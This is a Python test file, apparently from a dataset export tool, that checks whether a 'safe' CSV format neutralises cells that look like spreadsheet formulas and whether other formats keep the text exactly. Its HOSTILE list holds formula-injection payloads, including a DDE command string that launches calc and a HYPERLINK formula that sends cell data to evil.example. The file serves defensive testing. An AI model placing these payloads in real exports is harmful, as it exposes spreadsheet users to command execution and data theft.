"""A25: a cell that begins like a formula is inert in the CSV for spreadsheets, and exactly itself in all else."""

import csv
import json
from pathlib import Path

import hypothesis
from hypothesis import strategies as st

from app.datasets.card.card import card
from app.datasets.exports import write_folder
from app.datasets.formats import Format
from app.datasets.formats.csv_safe import DANGEROUS
from app.datasets.material import Item
from app.datasets.verify import verify_folder
from app.sources.formats import open_source, recognise
from tests.datasets.large import frozen

HOSTILE = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"look")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1+1", "''", "=",
)  # fmt: skip


def hostile_items() -> list[Item]:
    """Hostile in every place where somebody may write: prompt, response, system, history, source, author, licence."""
    return [
        Item(
            number, 1, "train", words if number % 2 else "authors", "en",
            [
                {"role": "system", "content": f"{words} {number}"},
                *({"role": role, "content": words} for role in ("user", "assistant", "user", "assistant")),
            ],
            words, {"author": words, "url": f"https://x.example.org/{number}"},
        )
        for number, words in enumerate(HOSTILE)
    ]  # fmt: skip


def cells_in(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def export(out: Path, form: Format) -> list[dict[str, str]]:
    manifest, lines = frozen(hostile_items())
    write_folder(manifest, lines, form, out)
    return cells_in(out / "train.csv") if form.suffix == "csv" else []


def test_a25_no_cell_of_the_safe_form_begins_like_a_formula(tmp_path: Path) -> None:
    rows = export(tmp_path / "safe", Format.CSV_SAFE)
    cells = [cell for row in rows for cell in row.values()]
    assert len(rows) == len(HOSTILE)
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
    assert {row["prompt"] for row in rows} == {f"'{words}" for words in HOSTILE}
    # A spreadsheet takes the file for UTF-8 by its mark alone.
    assert (tmp_path / "safe/train.csv").read_bytes().startswith(b"\xef\xbb\xbfid,source,")


def test_a25_what_training_reads_is_exactly_what_was_written(tmp_path: Path) -> None:
    plain = export(tmp_path / "plain", Format.CSV)
    assert {row["prompt"] for row in plain} == {row["author"] for row in plain} == set(HOSTILE)
    for form in (form for form in Format if form.suffix == "jsonl"):
        export(tmp_path / form, form)
        said = (tmp_path / form / "train.jsonl").read_text("utf-8")
        assert all(json.dumps(words, ensure_ascii=False)[1:-1] in said for words in HOSTILE)
        assert "escaped" not in said


def test_a25_the_safe_form_loses_nothing(tmp_path: Path) -> None:
    """Both ways: verified as the same words, and read back by an import."""
    export(tmp_path / "safe", Format.CSV_SAFE)
    export(tmp_path / "plain", Format.CSV)
    assert verify_folder(tmp_path / "safe")["ok"]
    read = {}
    for name in ("safe", "plain"):
        path = tmp_path / name / "train.csv"
        assert recognise(path) == "handpicked_csv"
        records = list(open_source(path).records())
        read[name] = [(record.content_hash, record.author, record.licence, record.source) for record in records]
    assert read["safe"] == read["plain"]
    assert sorted(author for _, author, _, _ in read["plain"]) == sorted(HOSTILE)


@hypothesis.settings(deadline=None)
@hypothesis.given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1)))
def test_a25_any_words_come_back(tmp_path_factory, words: list[str]) -> None:
    path = tmp_path_factory.mktemp("any") / "x.csv"
    layout = Format.CSV_SAFE.layout()
    examples = [
        {
            "source": one, "licence": one, "attribution": {"author": one},
            "messages": [{"role": "user", "content": one}, {"role": "assistant", "content": one}],
        }
        for one in words
    ]  # fmt: skip
    records = [layout.record_of("0", example) for example in examples]
    writer = layout.writer(path)
    for record in records:
        writer.add(record)
    writer.close()
    assert list(layout.records(path)) == records
    assert not [cell for row in cells_in(path) for cell in row.values() if cell.startswith(DANGEROUS)]


def test_a25_the_safe_form_is_asked_for_by_name_and_says_what_it_is() -> None:
    manifest, _ = frozen(hostile_items())
    assert [form for form in Format if "apostrophe" in card(manifest, form)] == [Format.CSV_SAFE]
    assert "not for training" in card(manifest, Format.CSV_SAFE)
    assert "spreadsheet would take some cells for formulas" in card(manifest, Format.CSV)
